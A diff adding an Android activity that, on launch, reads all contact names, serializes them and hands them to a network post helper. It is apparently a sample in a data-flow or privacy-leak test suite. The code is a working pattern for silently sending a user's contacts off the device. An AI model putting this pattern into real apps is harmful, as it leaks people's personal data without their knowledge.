@@ -1,0 +1,49 @@
+package com.example.flows.serializable;
+
+import android.accounts.*;
+import android.app.*;
+import android.content.*;
+import android.content.pm.*;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.*;
+import android.os.*;
+import android.provider.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import org.json.*;
+
+/** An object with names is written as bytes and posted. */
+public class MainActivity extends Activity {
+    @Override
+    public void onCreate(Bundle state) {
+        super.onCreate(state);
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try {
+            ObjectOutputStream out = new ObjectOutputStream(bytes);
+            out.writeObject(new Card(contacts()));
+            out.close();
+        } catch (IOException e) {
+            return;
+        }
+        Net.post(new String(bytes.toByteArray()));
+    }
+    String contacts() {
+        StringBuilder names = new StringBuilder();
+        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
+        while (cursor.moveToNext()) {
+            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
+        }
+        cursor.close();
+        return names.toString();
+    }
+}
